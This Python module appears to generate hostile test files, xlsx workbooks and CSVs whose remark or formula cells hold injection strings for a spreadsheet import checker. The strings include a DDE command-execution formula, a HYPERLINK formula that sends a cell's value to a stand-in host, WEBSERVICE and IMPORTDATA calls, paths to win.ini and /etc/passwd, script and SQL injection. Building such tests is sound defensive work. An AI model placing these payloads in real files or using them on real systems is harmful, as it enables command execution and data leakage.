"""C-1: texts that become formulas, links or commands where somebody copies them without thinking."""

from __future__ import annotations

from collections.abc import Iterator
from xml.sax.saxutils import escape

from hostile.declared import Hostile
from hostile.packages import HEADERS, LINE, row, strings, with_rows, workbook

_TEXTS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.invalid/?x="&A1,"点这里")',
    '=WEBSERVICE("http://example.invalid/")',
    '=IMPORTDATA("http://example.invalid/")',
    '=IMAGE("http://example.invalid/a.png")',
    '=RTD("server",,"topic")',
    "='[别人的.xlsx]Sheet1'!A1",
    '=EXEC("calc")',
    "=",
    "==1",
    "{=1+1}",
    "+1+1",
    "+86 13800000000",
    "-1-1",
    "-",
    "@SUM(1,1)",
    "@张三",
    "＝1+1",
    "＋1",
    "－1",
    "＠A1",
    "'=1+1",
    '"=1+1"',
    "http://example.invalid/",
    "file:///c:/windows/win.ini",
    "mailto:a@example.invalid",
    "internal:Sheet2!A1",
    "external:c:/x.xlsx",
    "\\\\example.invalid\\share\\a",
    "javascript:alert(1)",
    "<script>alert(1)</script>",
    "{{ 7*7 }}",
    "${7*7}",
    "%s%s%n",
    "'; DROP TABLE arrival; --",
    "../../../etc/passwd",
)


def drawn() -> Iterator[Hostile]:
    """Each text as a remark in a workbook and in delimited text."""
    for number, text in enumerate(_TEXTS):
        shared = strings([*HEADERS, *LINE[:-1], text])
        yield Hostile(f"备注{number}.xlsx", workbook({"xl/sharedStrings.xml": shared}), "read", holds=text)
        quoted = '"' + text.replace('"', '""') + '"'
        lines = f"{','.join(HEADERS)}\r\n{','.join(LINE[:-1])},{quoted}\r\n"
        yield Hostile(f"备注{number}.csv", lines.encode("utf-8-sig"), "read", holds=text)
    for number, formula in enumerate(_TEXTS[1:8]):
        cells = f'<c r="A3" t="str"><f>{escape(formula[1:])}</f><v>SO-2</v></c>'
        line = row(3, LINE[1:]).replace('<row r="3">', f'<row r="3">{cells}')
        moved = _moved(line)
        yield Hostile(f"公式{number}.xlsx", with_rows(moved), "read", _notices(formula), holds="SO-2")


def _moved(line: str) -> str:
    """The row with its texts one column further right, to make room for the formula in front."""
    for old, new in zip("FEDCBA", "GFEDCB", strict=True):
        line = line.replace(f'r="{old}3" t="s"', f'r="{new}3" t="s"')
    return line


def _notices(formula: str) -> tuple[str, ...]:
    live = ("WEBSERVICE", "RTD", "IMPORTDATA", "IMAGE", "|")
    return ("F204",) if any(mark in formula for mark in live) else ()
